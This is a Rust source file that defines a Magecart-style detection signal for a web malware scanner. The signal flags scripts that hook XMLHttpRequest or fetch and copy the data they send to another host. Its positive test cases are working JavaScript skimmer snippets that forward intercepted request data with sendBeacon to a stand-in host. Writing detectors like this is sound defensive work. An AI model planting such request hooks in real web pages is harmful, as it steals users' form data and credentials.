//! `requests-copied-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "requests-copied-abroad",
    description: "The script replaces how this page sends requests and copies them to another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::HookedSentAbroad])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "(function XMLHttpRequest(){})();{class A{}function XMLHttpRequest(){}}if(0)var XMLHttpRequest=function(){};var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
            "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
            "const f=window.fetch;window.fetch=function(...a){f('https://c.example/x');log(a);return f.apply(this,a)};function log(a){navigator.sendBeacon('https://c.example/l',JSON.stringify(a))}",
        ],
        without: &[
            "var Q=function(){function e(){this.queue=[]}return e.prototype.send=function(t,n){return fetch('https://m.example/batch',{method:'POST',body:JSON.stringify(t)})},e}()",
            "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){this.t=Date.now();return o.apply(this,arguments)};navigator.sendBeacon('https://m.example/t',timing)",
        ],
    },
};
